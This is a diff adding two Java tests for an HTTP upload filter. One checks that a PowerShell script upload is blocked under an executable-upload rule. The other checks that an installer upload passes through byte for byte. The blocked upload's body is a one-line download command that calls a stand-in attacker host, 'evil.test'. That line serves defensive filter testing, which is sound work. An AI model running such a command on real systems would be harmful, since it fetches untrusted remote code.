@@ -126,4 +126,25 @@ class PathRulesOverHttpTest extends FilterContainerTest {
 
         assertThat(assertBlockedAndLogged(response).get("rule.id").asText()).isEqualTo("PATH-UPLOAD-SCRIPT");
     }
+
+    @Test
+    void blocksPowerShellScriptUpload() {
+        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"x.ps1\"", "text/plain",
+                "Invoke-WebRequest http://evil.test/x".getBytes(StandardCharsets.UTF_8));
+
+        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);
+
+        assertThat(assertBlockedAndLogged(response, "x.ps1").get("rule.id").asText()).isEqualTo("PATH-UPLOAD-EXECUTABLE");
+    }
+
+    @Test
+    void passesInstallerUploadByteForByte() {
+        byte[] body = MultipartBody.onePart("b", "form-data; name=\"file\"; filename=\"setup.exe\"",
+                "application/octet-stream", "MZ....".getBytes(StandardCharsets.UTF_8));
+
+        HttpResponse<String> response = post("/upload", "multipart/form-data; boundary=b", body);
+
+        assertThat(response.statusCode()).isEqualTo(200);
+        assertThat(json(response.body()).get("bodySha256").asText()).isEqualTo(RecordingServlet.sha256(body));
+    }
 }
